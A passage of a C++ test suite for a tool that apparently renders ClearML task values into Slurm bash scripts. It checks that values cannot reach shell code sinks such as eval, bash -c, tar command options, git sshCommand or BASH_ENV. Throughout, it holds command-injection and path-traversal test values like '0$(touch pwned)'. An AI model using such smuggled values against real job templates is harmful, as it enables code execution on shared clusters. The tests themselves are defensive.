  EXPECT_TRUE(refused("eval \"${CLEARML_TASK.name}\"", "value-parsed-as-code"));
  EXPECT_TRUE(refused("srun ${CLEARML_TASK.name}", "placeholder-command"));
}

TEST(ValueSinks, MoreRunnersAndCodeStrings) {
  for (const char* form : {"time -p @ x", "coproc @ x", "screen -dmS train @", "runuser -u nobody -- @",
                           "ibrun @", "mpirun.openmpi -np 2 @", "mpiexec.hydra -n 2 @", "busybox @ x",
                           "nsenter -t 1 -m @", "gdb --args @", "kubectl exec pod -- @"})
    EXPECT_TRUE(refused(with(form), "placeholder-command")) << form;
  for (const char* form : {"sg users \"python3 x.py --name @\"", "tmux new-session -d \"python3 x.py @\"",
                           "su -s /bin/bash nobody -c \"echo @\"", "screen -dmS t bash -c \"echo @\"",
                           "export SLURM_TASK_PROLOG=@", "export SINGULARITYENV_LD_PRELOAD=@",
                           "export NCCL_NET_PLUGIN=@", "export OMP_TOOL_LIBRARIES=@", "export SRUN_EXPORT_ENV=@",
                           // Compiled-code caches, where the agent sends its key, whom it trusts.
                           "export TORCH_EXTENSIONS_DIR=@", "export HF_MODULES_CACHE=@",
                           "export https_proxy=@", "export REQUESTS_CA_BUNDLE=@", "export GLIBC_TUNABLES=@",
                           "export AWS_CA_BUNDLE=@", "export GRPC_DEFAULT_SSL_ROOTS_FILE_PATH=@", "export KERAS_BACKEND=@",
                           "export ENROOT_DATA_PATH=@"})
    EXPECT_TRUE(refused(with(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refused(with("export CLEARML_API_HOST=@"), "value-chooses-server"));
  EXPECT_FALSE(placement(with("ibrun python3 -u @")).context.after_option);
  EXPECT_FALSE(refused(with("export DATA_PATH=@"), "value-parsed-as-code"));
}

}  // namespace

namespace {

// A value that reaches an unquoted expansion is split and globbed there: it
// must stay one word; where it starts an argument, '-' makes an option.
TEST(ValueSinks, UnquotedExpansionsKeepAValueOneWord) {
  for (const char* form : {"N=@\npython3 train.py --name $N", "read -r L <<< \"@\"\necho $L",
                           "python3 x.py --run $(basename @ .py)", "R=$(echo @ | tr ' ' _)\nls $R",
                           "python3 x.py `echo @`", "python3 x.py ${T/x/@}"})
    EXPECT_TRUE(placement(with(form)).context.split_later) << form;
  for (const char* form : {"N=@\npython3 train.py --name \"$N\"", "N=@\necho \"$N\"", "N=@\nM=$N\necho \"$M\""})
    EXPECT_FALSE(placement(with(form)).context.split_later) << form;
  // Read back where an argument begins: no leading '-' (numbers after an option of unknown arity).
  auto p = placement(with("N=@\npython3 \"$N\""));
  EXPECT_TRUE(p.context.begins_argument);
  EXPECT_FALSE(p.context.after_option);
  p = placement(with("N=@\npython3 x.py --lr \"$N\""));
  EXPECT_TRUE(p.context.begins_argument);
  EXPECT_TRUE(p.context.after_option);
  EXPECT_FALSE(p.context.option_takes_value);
  EXPECT_FALSE(placement(with("N=@\nprintf '%s' \"$N\"")).context.begins_argument);
}

}  // namespace

namespace {

// The forms below write %X% for the task's name ('@' is bash's own there).
std::string task(const std::string& form) {
  std::string s = form;
  for (auto at = s.find("%X%"); at != std::string::npos; at = s.find("%X%", at)) s.replace(at, 3, kName);
  return s + "\n";
}

// An array of options ("${OPTS[@]}") before a runner's command: an element
// that is an option with its value in the same word (--ntasks=${...}) is
// never the command and takes no word after it, and its value keeps the
// option's rules; a value that is a whole element, or that a cut can make
// one, could be the command.
// Values reach a subscript through variables too: N=${...} then A=([$N]=x)
// or wait -p "A[$N]" evaluates the value as arithmetic.
TEST(ValueSinks, SubscriptsOfCompoundAssignmentsAndWaitAreArithmetic) {
  for (const char* form : {"N=%X%\nA=([$N]=cuda)", "N=%X%\nA=([${N:-0}]=x [1]=y)", "N=%X%\nA+=([\"$N\"]=x)",
                           "N=%X%\nf() { local -a A=([$N+1]=x); }", "N=%X%\nsleep 0 & wait -p \"A[$N]\" $!"}) {
    EXPECT_EQ(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
    sg::compiler::Source source("t.tpl", kHead + task(form));
    const auto c = sg::compiler::compile(source);
    ASSERT_NE(c.renderer, nullptr) << form;
    sg::render::Values values;
    values.task = {{"id", "0123456789abcdef"}, {"name", "0$(touch pwned)"}};
    std::string script;
    std::vector<sg::render::RenderError> errors;
    EXPECT_FALSE(c.renderer->render(values, script, errors)) << form << "\n" << script;
    values.task["name"] = "3";
    EXPECT_TRUE(c.renderer->render(values, script, errors)) << form;
  }
}

// An associative array's key is a string, expanded once: a value there is
// data (rendered as a reference, never '@' or empty), where bash surely made
// the name associative before (declare -A at the top level, on its own
// line, never unset or declared again without -A); elsewhere arithmetic.
TEST(ValueSinks, AssociativeArrayKeysAreStrings) {
  const std::string declared = "declare -A P=([small]=6 [large]=24)\n";
  for (const char* form : {"echo \"${P[%X%]}\"", "echo ${P[%X%]}", "P[%X%]=1", "P+=([%X%]=2)",
                           "declare -A Q=([%X%]=3)", "echo \"${#P[%X%]}\""}) {
    const auto pl = placement(task(declared + form));
    EXPECT_EQ(pl.context.quoting, sg::render::Quoting::DoubleQuoted) << form;
    EXPECT_TRUE(pl.context.assoc_key) << form;
    sg::compiler::Source source("t.tpl", kHead + task(declared + form));
    const auto c = sg::compiler::compile(source);
    ASSERT_NE(c.renderer, nullptr) << form;
    sg::render::Values values;
    values.task = {{"id", "0123456789abcdef"}, {"name", "x] $(touch pwned) '\"*"}};
    std::string script;
    std::vector<sg::render::RenderError> errors;
    EXPECT_TRUE(c.renderer->render(values, script, errors)) << form;
    EXPECT_EQ(script.find("$(touch pwned)", script.find("__slurmglue_1=") + 20), std::string::npos) << script;
    values.task["name"] = "@";  // one key, not every element
    EXPECT_TRUE(c.renderer->render(values, script, errors)) << form;
    EXPECT_EQ(script.find("[@]", script.find("__slurmglue_1=") + 20), std::string::npos) << script;
  }
  // Through a variable, ${P[$M]} keeps M's value whole (no arithmetic).
  EXPECT_TRUE(rules(task("M=%X%\n" + declared + "python3 t.py ${P[$M]}")).empty());
  // Not surely associative: still arithmetic.
  for (const char* before : {"declare -A P\nunset P", "if true; then declare -A P; fi", "declare -A P\nf() { local P; }",
                             "true && declare -A P", "declare -A P | cat", "n=P\ndeclare -A P\nunset \"$n\"",
                             "declare -A P\ndeclare -n R=P", "", "declare -a P"})
    EXPECT_EQ(placement(task(std::string(before) + "\nP[%X%]=1")).context.quoting, sg::render::Quoting::Arithmetic)
        << before;
  EXPECT_EQ(placement(task("echo \"${P[%X%]}\"\ndeclare -A P")).context.quoting, sg::render::Quoting::Arithmetic);
  // declare -A fails, and the name stays indexed, where bash holds it as an
  // array already (its own, or one the template filled) or the options are
  // not a declaration (-fA).
  for (const char* before : {"declare -A GROUPS", "declare -A FUNCNAME", "declare -A BASH_ARGV", "P[0]=x\ndeclare -A P",
                             "P=(a b)\ndeclare -A P", "mapfile -t P < /dev/null\ndeclare -A P",
                             "read -ra P <<< \"a b\"\ndeclare -A P", "declare -fA P", "declare -FA P", "declare -Ap P",
                             "readonly P\ndeclare -A P"}) {
    std::string form = std::string(before) + "\n";
    const auto name = form.substr(form.rfind(' ') + 1, form.size() - form.rfind(' ') - 2);
    form += name + "[%X%]=1";
    EXPECT_EQ(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
  }
  for (const char* ok : {"declare -gA P", "typeset -A P", "declare -A -x P", "declare -Ar P=([a]=1)"})
    EXPECT_TRUE(placement(task(std::string(ok) + "\necho \"${P[%X%]}\"")).context.assoc_key) << ok;
}

// An element's value is not its key: the counting idiom reads back a number,
// while the keys (${!P[@]}, ${P[@]@K}) carry the value on.
TEST(ValueSinks, AssociativeKeysAndValuesFlowApart) {
  const std::string head = "declare -A RUNS\nMODEL=%X%\n";
  for (const char* form : {"RUNS[$MODEL]=$(( ${RUNS[$MODEL]:-0} + 1 ))\necho \"${RUNS[$MODEL]}\"",
                           "RUNS[$MODEL]=1\necho $(( ${RUNS[$MODEL]} + 1 ))", "RUNS[$MODEL]=1\n(( RUNS[x] > 0 ))"}) {
    EXPECT_TRUE(rules(task(head + form)).empty()) << form;
    EXPECT_EQ(placement(task(head + form)).context.quoting, sg::render::Quoting::Unquoted) << form;
  }
  for (const char* form : {"RUNS[$MODEL]=1\nfor k in \"${!RUNS[@]}\"; do eval \"$k\"; done",
                           "RUNS[$MODEL]=1\neval \"${RUNS[@]@K}\"", "RUNS[$MODEL]=1\nbash -c \"${!RUNS[*]}\""})
    EXPECT_TRUE(refused(task(head + form), "value-parsed-as-code")) << form;
  for (const char* form : {"RUNS[x]=$MODEL\necho $(( ${RUNS[x]} ))", "RUNS[$MODEL]=1\necho $(( ${!RUNS[@]} ))",
                           "RUNS[$MODEL]=$MODEL\n(( RUNS[x] ))", "RUNS[$MODEL]=1\nfor k in \"${!RUNS[@]}\"; do (( k )); done"})
    EXPECT_EQ(placement(task(head + form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
}

TEST(ValueSinks, ArraysOfRunnerOptionsAreOptionsNotCommands) {
  for (const char* form : {"OPTS=(--nodes=1 \"--ntasks=%X%\")\nsrun \"${OPTS[@]}\" python3 x.py",
                           "OPTS=(\"--gres=gpu:%X%\")\nOPTS+=(--exclusive)\nsrun \"${OPTS[@]}\" hostname",
                           "N=\"--job-name=%X%\"\nsrun \"$N\" hostname"})
    EXPECT_FALSE(refused(task(form), "placeholder-command")) << form;
  // Other runners' options have rules of their own (env --chdir names where
  // code is read, sudo --user who runs it): still refused there.
  EXPECT_TRUE(refused(task("A=(\"--chdir=%X%\")\nenv \"${A[@]}\" python3 x.py"), "placeholder-command"));
  EXPECT_TRUE(refused(task("A=(\"--user=%X%\")\nsudo \"${A[@]}\" id"), "value-chooses-account"));
  for (const char* form : {"OPTS=(\"%X%\")\nsrun \"${OPTS[@]}\" hostname",
                           "OPTS=(\"--x=%X%\")\nsrun \"${OPTS[@]#--x=}\" hostname",
                           "OPTS=(\"--x=%X%\")\nsrun \"${OPTS[@]/#--x=/}\" hostname",
                           "OPTS=(\"-N%X%\")\nsrun \"${OPTS[@]}\" hostname",
                           "OPTS=(\"--$X=%X%\")\nsrun \"${OPTS[@]}\" hostname"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  // The option's own rules still hold: a list item stays one item.
  const auto gres = placement(task("OPTS=(\"--gres=gpu:%X%\")\nsrun \"${OPTS[@]}\" hostname"));
  EXPECT_NE(gres.roles.check("1,bad:2"), nullptr);
  EXPECT_EQ(gres.roles.check("2"), nullptr);
  const auto job_name = placement(task("OPTS=(--nodes=1 \"--job-name=%X%\")\nsrun -o %x.log \"${OPTS[@]}\" hostname"));
  EXPECT_NE(job_name.roles.check(".hidden"), nullptr);
  EXPECT_EQ(placement(task("OPTS=(--nodes=1 \"--job-name=%X%\")\nsrun \"${OPTS[@]}\" hostname")).roles.check(".hidden"), nullptr);
}

// Where the model cannot follow a value (a file it cannot name, a command
// chosen at run time, a descriptor, a glob), it assumes the worst: the
// value must be one the worst place accepts.
TEST(ValueSinks, FilesAreFollowedHoweverTheyAreWrittenAndRead) {
  for (const char* form : {
           "exec 3>step.sh\necho \"echo %X%\" >&3\nexec 3>&-\nbash step.sh",
           "cp /dev/stdin step.sh <<EOT\necho %X%\nEOT\nbash step.sh",
           "echo \"echo %X%\" | dd of=step.sh status=none\nbash step.sh",
           "echo \"echo %X%\" > step.tmp\nmv step.tmp step.sh\nbash step.sh",
           "mkdir -p steps\necho \"echo %X%\" > steps/01.sh\nfor s in steps/*.sh; do bash \"$s\"; done",
           "emit() { echo \"$1\" >> \"$2\"; }\nemit \"echo %X%\" step.sh\nbash step.sh",
           "E=job_env.sh\necho \"N=\\\"%X%\\\"\" > job_env.sh\nsource \"$E\"",
           "echo \"N=\\\"%X%\\\"\" > \"$PWD/job_env.sh\"\n. ./job_env.sh",
           "echo \"%X%\" > name.txt\nexec 3<name.txt\nread -r -u 3 N\neval \"echo $N\"",
           "echo \"NAME = '%X%'\" > cfg.py\npython3 -c 'import cfg'",
           "printf 'all:\\n' > Makefile\necho \"X = %X%\" >> Makefile\nmake"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // Data files stay data.
  for (const char* form : {"echo \"%X%\" > \"$OUT/name.txt\"\npython3 train.py", "echo \"%X%\" | tee run.log\ncat run.log"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

TEST(ValueSinks, ACommandChosenAtRunTimeIsReadAsWhatItMayBe) {
  for (const char* form : {"N=\"%X%\"\nLAUNCH=\"bash -c\"\n$LAUNCH \"echo $N\"",
                           "N=\"%X%\"\nLAUNCH=(bash -c)\n\"${LAUNCH[@]}\" \"echo $N\"", "run=eval\n$run \"echo %X%\"",
                           "$RUNNER \"%X%\"", "run() { local c=$1; shift; $c \"$@\"; }\nrun eval \"%X%\"",
                           "run() { \"$@\"; }\nrun bash -c \"echo %X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"run() { echo \"+ $*\" >&2; \"$@\"; }\nrun python3 train.py --name \"%X%\"",
                           "$VENV/bin/python train.py --name \"%X%\"", "PY=python3\n$PY train.py --name \"%X%\"",
                           "${PYTHON:-python3} train.py --name \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refused(task("run() { \"$@\"; }\nrun %X%"), "placeholder-command"));
  // shift drops the call's first words before "$@".
  EXPECT_TRUE(refused(task("run() { local n=$1; shift; \"$@\"; }\nrun 3 bash -c \"echo %X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("run() { shift \"$1\"; \"$@\"; }\nrun 1 x bash -c \"echo %X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("run() { local n=$1; shift; \"$@\"; }\nrun 3 python3 x.py --name \"%X%\"")).empty());
}

TEST(ValueSinks, SplittingTheTemplateChoosesIsKnown) {
  auto p = placement(task("IFS=,\nLR=%X%\npython3 train.py --lr $LR"));
  EXPECT_TRUE(p.context.split_later);
  EXPECT_NE(p.context.split_chars.find(','), std::string::npos);
  p = placement(task("read -ra G <<< \"%X%\"\npython3 train.py --gpus \"${G[@]}\""));
  EXPECT_TRUE(p.context.split_later);
  EXPECT_TRUE(p.context.begins_argument);
  // A for loop takes each element as one pass: the loop variable is a part
  // of the value, checked as any part where it goes (fr 85, 86).
  for (const char* read : {"IFS=, read -ra G <<< \"%X%\"", "read -ra G <<< \"%X%\""}) {
    p = placement(task(std::string(read) + "\nfor g in \"${G[@]}\"; do python3 train.py \"$g\"; done"));
    EXPECT_FALSE(p.context.split_later) << read;
    EXPECT_TRUE(p.context.dash_anywhere) << read;
    EXPECT_FALSE(refuses(p, "0,1,2,3")) << read;
    EXPECT_FALSE(refuses(p, "0 1 2 3")) << read;
    EXPECT_TRUE(refuses(p, "0,-cprint(1)")) << read;
    EXPECT_TRUE(refuses(p, "0 -cprint(1)")) << read;
    p = placement(task(std::string(read) + "\nfor g in \"${G[@]}\"; do mkdir -p \"runs/$g\"; done"));
    EXPECT_FALSE(refuses(p, "a,b")) << read;
    EXPECT_TRUE(refuses(p, "a,../../x")) << read;
  }
  // (Unquoted, the elements are split and globbed again.)
  p = placement(task("IFS=, read -ra G <<< \"%X%\"\nfor g in ${G[@]}; do python3 train.py --gpu \"$g\"; done"));
  EXPECT_TRUE(p.context.split_later);
  EXPECT_NE(p.context.split_chars.find(','), std::string::npos);
  p = placement(task("mapfile -t I < <(tr , '\\n' <<< \"%X%\")\npython3 train.py \"${I[@]}\""));
  EXPECT_TRUE(p.context.split_later);
  EXPECT_NE(p.context.split_chars.find('-'), std::string::npos);
  EXPECT_FALSE(placement(task("read -r G <<< \"%X%\"\npython3 train.py --gpus \"$G\"")).context.split_later);
}

TEST(ValueSinks, NamesTheTemplateCreatesAreValuesToo) {
  for (const char* form : {"mkdir -p \"runs/%X%\"\nfind runs -mindepth 1 -exec sh -c 'echo {}' \\;",
                           "mkdir -p \"runs/%X%\"\nfor d in runs/*; do sh -c \"echo $d\"; done",
                           "touch \"out/%X%\"\nls out | xargs -I{} sh -c 'echo {}'"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("mkdir -p \"runs/%X%\"\nfor d in runs/*; do echo \"$d\"; done")).empty());
}

TEST(ValueSinks, DescriptorsNamerefsAndTrapsReachTheirCode) {
  for (const char* form : {"N=\"%X%\"\ncoproc SH { bash; }\necho \"echo $N\" >&\"${SH[1]}\"",
                           "N=\"%X%\"\ndeclare -n REF=N\neval \"echo $REF\"",
                           "N=\"%X%\"\non_exit() { eval \"echo $1\"; }\ntrap 'on_exit \"$N\"' EXIT",
                           "make %X%", "make all X=\"%X%\"", "N=\"%X%\"\necho \"echo $N\" | tee >(bash)",
                           "rsync -e \"%X%\" a b:", "rsync --rsh=\"%X%\" a b:", "tar -I \"%X%\" -xf a.tar",
                           "git -c core.sshCommand=\"%X%\" clone x", "git config core.pager \"%X%\"",
                           "mapfile -C \"%X%\" -c 1 A < f"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // tar's command options in each spelling tar reads, bsdtar's too (attack 202).
  for (const char* form : {"tar xIf \"%X%\" a.tar", "tar xMFf \"%X%\" a.tar", "tar -xI\"%X%\" -f a.tar",
                           "tar -x --use-compress-program=\"%X%\" -f a.tar", "bsdtar -x --use-compress-program \"%X%\" -f a.tar",
                           "tar -x --to-command \"%X%\" -f a.tar", "tar -c --checkpoint-action=exec=\"%X%\" -f a.tar ."})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // (bsdtar's -I is a file of names.)
  EXPECT_FALSE(refused(task("bsdtar -x -I \"names/%X%.txt\" -f a.tar"), "value-parsed-as-code"));
  for (const char* form : {"awk -v name=\"%X%\" 'BEGIN { print name }'", "awk -F, '{ print $1 }' \"%X%\"",
                           "sed -e 's/a/b/' \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refused(task("awk \"%X%\""), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("sed -n \"%X%\" f"), "value-parsed-as-code"));
}

// sbatch hands some options to the job as environment variables.
TEST(ValueSinks, ValuesReachTheJobsEnvironment) {
  const std::string head = "#SBATCH --job-name=${CLEARML_TASK.name}\n";
  EXPECT_TRUE(refused(head + "srun bash -c \"echo $SLURM_JOB_NAME\"\n", "value-parsed-as-code"));
  EXPECT_TRUE(placement(head + "python3 train.py --run $SLURM_JOB_NAME\n").context.split_later);
  for (const char* line : {"#SBATCH --export=ALL,ARGS=${CLEARML_TASK.name}", "#SBATCH --export=ARGS=x${CLEARML_TASK.name}",
                           "#SBATCH --export=\"ALL,A=1,ARGS=${CLEARML_TASK.name}\"", "#SBATCH --export ALL,ARGS=${CLEARML_TASK.name}"})
    EXPECT_TRUE(refused(std::string(line) + "\neval \"$ARGS\"\n", "value-parsed-as-code")) << line;
  EXPECT_TRUE(rules(head + "echo \"$SLURM_JOB_NAME\"\n").empty());
}

}  // namespace

namespace {

// A second outside review: shells' options before -c, files under /dev,
// abbreviated #SBATCH options, variables bash sets by itself, programs that
// print the environment, rewrites that make words or a leading '-'.
TEST(ValueSinks, ShellsReadTheirOptionsBeforeTheCode) {
  for (const char* form : {"bash -o pipefail -c \"echo %X%\"", "bash -O extglob -c \"echo %X%\"",
                           "bash +e -c \"echo %X%\"", "bash -c -- \"echo %X%\"", "srun bash -o pipefail -c \"echo %X%\"",
                           "script -qc \"echo %X%\" /dev/null", "pdsh -w n1 \"echo %X%\"", "vim -es -c \"!echo %X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

TEST(ValueSinks, VariablesBashSetsItselfAreFollowed) {
  for (const char* form : {"N=\"%X%\"\n[[ $N =~ ^(.*)$ ]]\nbash -c \"echo ${BASH_REMATCH[1]}\"",
                           "N=\"%X%\"\nread <<< \"$N\"\nbash -c \"echo $REPLY\"", "N=\"%X%\"\nV=N\nbash -c \"echo ${!V}\"",
                           "N=\"%X%\"\nget() { printf %s \"$N\"; }\nbash -c \"echo $(get)\"",
                           "N=\"%X%\"\n: \"${R:=$N}\"\nbash -c \"echo $R\"",
                           "N=\"%X%\"\nlog() { local -n m=$1; bash -c \"echo $m\"; }\nlog N",
                           "N=\"%X%\"\nexec 3<<<\"$N\"\nread -r -u 3 M\nbash -c \"echo $M\"",
                           "N=\"%X%\"\nmkdir -p \"$N\"\nbash -c \"echo $_\"",
                           "export N=\"%X%\"\nenv | grep ^N= > job.env\nsource job.env",
                           "export N=\"%X%\"\nprintf 'echo $N\\n' > a.tpl\nenvsubst < a.tpl > run.sh\nbash run.sh",
                           "export V=\"%X%\"\nC=$(printenv V)\neval \"$C\"", "export CC=\"%X%\"", "export TAR_OPTIONS=\"%X%\"",
                           "echo \"echo %X%\" > /dev/shm/s.sh\nbash /dev/shm/s.sh",
                           "V=\"%X%\"\nexec 3<<<\"$V\"\nread -r C <&3\neval \"$C\"",
                           "python3 -m timeit -s 'import os' \"os.system('echo %X%')\"",
                           "awk -v n=\"%X%\" 'BEGIN { system(\"echo \" n) }'",
                           "python3 -c 'import sys; open(\"s.sh\", \"w\").write(sys.argv[1])' \"%X%\"\nbash s.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refused(task("getopts x: o -x \"%X%\"\n\"$OPTARG\""), "placeholder-command"));
  EXPECT_TRUE(refused("#SBATCH --job-na ${CLEARML_TASK.name}\nsrun bash -c \"echo $SLURM_JOB_NAME\"\n",
                      "value-parsed-as-code"));
}

TEST(ValueSinks, RewritesMakeWordsAndOptions) {
  auto p = placement(task("G=%X%\npython3 train.py --gpus ${G//,/ }"));
  EXPECT_TRUE(p.context.split_later);
  EXPECT_NE(p.context.split_chars.find(','), std::string::npos);
  p = placement(task("read -r IFS <<< ,\nV=%X%\npython3 t.py --v $V"));
  EXPECT_NE(p.context.split_chars.find(','), std::string::npos);
  EXPECT_NE(placement(task("shopt -s extglob\nV=%X%\npython3 t.py --v $V")).context.split_chars.find('('),
            std::string::npos);
  // Code the compiler does not read may turn extglob on: a sourced site
  // file, eval of a program's output, a login or interactive shell's
  // startup files (bash-completion does).
  const auto split_chars = [](const std::string& shebang, const std::string& form) {
    const auto c = sg::compiler::compile(sg::compiler::Source("t.tpl", shebang + task(form)));
    EXPECT_NE(c.renderer, nullptr) << form;
    return c.renderer ? c.renderer->program().placements.front().context.split_chars : std::string();
  };
  for (const auto& [shebang, form] : std::vector<std::pair<std::string, std::string>>{
           {"#!/bin/bash\n", "source /site/env.sh\nV=%X%\npython3 t.py --v $V"},
           {"#!/bin/bash\n", "eval \"$(conda shell.bash hook)\"\nV=%X%\npython3 t.py --v $V"},
           {"#!/bin/bash -l\n", "V=%X%\npython3 t.py --v $V"},
           {"#!/usr/bin/env -S bash --login\n", "V=%X%\npython3 t.py --v $V"}}) {
    EXPECT_NE(split_chars(shebang, form).find('('), std::string::npos) << shebang << form;
    EXPECT_EQ(split_chars(shebang, form).find('!'), std::string::npos) << shebang << form;  // wow! makes no pattern
  }
  EXPECT_EQ(split_chars("#!/bin/bash -x\n", "V=%X%\npython3 t.py --v $V").find('('), std::string::npos);
  EXPECT_TRUE(placement(task("R=%X%\ngit clone \"${R#git+}\" src")).context.dash_anywhere);
  EXPECT_TRUE(placement(task("F=%X%\npython3 t.py \"$(cut -d: -f2 <<< \"$F\")\"")).context.dash_anywhere);
  EXPECT_FALSE(placement(task("R=%X%\ngit clone \"${R:-x}\" src")).context.dash_anywhere);
  for (const char* form : {"F=%X%\nfor p in ${F//:/ }; do python3 t.py \"$p\"; done",
                           "for g in $(echo \"%X%\" | tr , ' '); do python3 t.py --gpu $g; done"}) {
    p = placement(task(form));
    EXPECT_TRUE(p.context.split_later) << form;
    EXPECT_NE(p.context.split_chars.find(':'), std::string::npos) << form;
  }
}

TEST(ValueSinks, LaunchersTheCompilerDoesNotListRefuseAValueAsTheCommand) {
  for (const char* form : {"setpriv --no-new-privs %X%", "torchrun --no-python %X%", "ch-run /img -- %X%",
                           "enroot exec 12 %X%", "uvx %X%", "pipx run %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  EXPECT_TRUE(rules(task("torchrun --nproc_per_node=8 train.py --name \"%X%\"")).empty());
  // A retry wrapper: $1 is the count, the rest the command.
  EXPECT_TRUE(rules(task("retry() { local n=$1; shift; for ((i = 0; i < n; i++)); do \"$@\" && return 0; done; "
                         "return 1; }\nretry 3 python3 train.py --name \"%X%\""))
                  .empty());
}

}  // namespace

namespace {

// A third outside review: option clusters before -c, code attached to its
// option, runners found after options of unknown arity, escapes decoded.
TEST(ValueSinks, CodeOptionsInEveryForm) {
  for (const char* form : {"bash -euo pipefail -c \"echo %X%\"", "bash -eo pipefail -c \"echo %X%\"",
                           "srun --ntasks=1 bash -eo pipefail -c \"echo %X% | tee log\"",
                           "python3 -c\"print('%X%')\"", "python3 -uc\"print('%X%')\"",
                           "python3 -Wignore -c \"print('%X%')\"", "python3 -E -s -c \"print('%X%')\"",
                           "perl -le\"print '%X%'\"", "node --print \"'%X%'\"", "node -p \"'%X%'\"",
                           "node --eval=\"x='%X%'\"", "node -r fs -e \"x='%X%'\"",
                           "prlimit --nofile=1024 bash -c \"echo %X%\"", "setarch x86_64 -R bash -c \"echo %X%\"",
                           "sqlite3 :memory: \"select '%X%';\"", "matlab -batch \"train('%X%')\"",
                           "echo \"%X%\" > f.txt\nxargs -a f.txt python3 t.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_FALSE(rules(task("setarch x86_64 -R %X%")).empty());
}

TEST(ValueSinks, DecodedEscapesAndFilesSplitLater) {
  EXPECT_TRUE(placement(task("printf -- \"--lr=%X%\\n\" > a.txt")).context.escapes_decoded);
  EXPECT_TRUE(placement(task("X=\"%X%\"\necho -e \"$X\"")).context.escapes_decoded);
  EXPECT_TRUE(placement(task("printf '%b\\n' \"%X%\"")).context.escapes_decoded);
  EXPECT_FALSE(placement(task("printf '%s\\n' \"%X%\"")).context.escapes_decoded);
  auto p = placement(task("echo \"%X%\" > f.txt\npython3 t.py --files $(cat f.txt)"));
  EXPECT_TRUE(p.context.split_later);
  EXPECT_NE(p.context.split_chars.find(','), std::string::npos);
  p = placement(task("echo \"%X%\" | tr , '\\n' > g.txt\nmapfile -t G < g.txt\npython3 t.py \"${G[@]}\""));
  EXPECT_NE(p.context.split_chars.find(','), std::string::npos);
}

}  // namespace

namespace {

// A fifth outside review: where an argument begins although the template
// wrote something before the placeholder, and a descriptor's '-'.
TEST(ValueSinks, AnArgumentBeginsAfterTextThatMayVanish) {
  for (const char* form : {"logargs $\"%X%\"", "logargs \"\"%X%", "logargs ''\"%X%\"", "logargs ${EMPTY}%X%",
                           "logargs \"${OPT_PREFIX:-}%X%\"", "logargs \"$(true)%X%\"", "logargs {,}%X%"})
    EXPECT_TRUE(placement(task(form)).context.begins_argument) << form;
  for (const char* form : {"logargs x%X%", "logargs \"a\"%X%", "logargs --name=%X%", "logargs \"$((1))%X%\""})
    EXPECT_FALSE(placement(task(form)).context.begins_argument) << form;
  // >&- closes a descriptor and the rest would be a new word.
  // (1>&WORD bash expands again: refused, see CshStyleRedirectionExpandsItsWordAgain.)
  for (const char* form : {"exec 3>&%X%", "logargs hi 2>&%X%", "logargs hi <&%X%"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(p.context.begins_argument && !p.context.after_option) << form;
  }
  EXPECT_FALSE(placement(task("logargs hi > %X%")).context.begins_argument);
}

}  // namespace

namespace {

// Files a later bash runs although no command of the template names them as
// code: start-up files, descriptors, names made by brace expansion; and
// parameters a loop takes without naming them.
TEST(ValueSinks, FilesRunByWaysTheTemplateDoesNotSpellOut) {
  const std::string env_file = "cat > job.env <<EOF\nexport TASK_NAME=\"%X%\"\nEOF\n";
  for (const char* run : {"export BASH_ENV=$PWD/job.env\nsrun bash -c true", "BASH_ENV=job.env bash -c true",
                          "env BASH_ENV=job.env bash -c true", "ENV=job.env sh -i -c true",
                          "srun --export=ALL,BASH_ENV=$PWD/job.env bash -c true"})
    EXPECT_TRUE(refused(task(env_file + run), "value-parsed-as-code")) << run;
  EXPECT_TRUE(rules(task(env_file + "export BASH_ENV=$PWD/other.env\nbash -c true")).empty());
  const std::string body = "cat > a.txt <<'EOF'\n%X%\nEOF\n";
  for (const char* run : {"source /dev/fd/3 3<a.txt", "exec 4<a.txt\nsource /dev/fd/4", ". /proc/self/fd/3 3<a.txt",
                          "mv a.txt{,.sh}\nsource a.txt.sh", "cp a.txt{,.sh}\nbash a.txt.sh"})
    EXPECT_TRUE(refused(task(body + run), "value-parsed-as-code")) << run;
  EXPECT_TRUE(refused(task("f() { for a; do eval \"$a\"; done; }\nf %X%"), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("export EV=%X%\nbash -c \"eval \\\"\\$EV\\\"\""), "value-parsed-as-code"));
}

}  // namespace

namespace {

// Variables a runner sets for its command, and options and operands that
// are programs or code.
TEST(ValueSinks, RunnersEnvironmentAndProgramOptions) {
  for (const char* form : {"srun --export=ALL,EV=%X% bash -c 'eval \"$EV\"'", "srun --export EV=%X% bash -c 'eval \"$EV\"'",
                           "mpirun -x EV=%X% bash -c 'eval \"$EV\"'",
                           "singularity exec --no-eval --env EV=%X% img.sif bash -c 'eval \"$EV\"'",
                           "docker run -e EV=%X% img bash -c 'eval \"$EV\"'",
                           "enroot start -e EV=%X% img bash -c 'eval \"$EV\"'",
                           "mpirun -x BASH_ENV=%X% bash -c true", "apptainer exec --no-eval --env=PYTHONSTARTUP=%X% img python3",
                           "git clone --config core.sshCommand=%X% ssh://h/r.git d",
                           "git -C . clone --config=core.sshCommand=%X% ssh://h/r.git d",
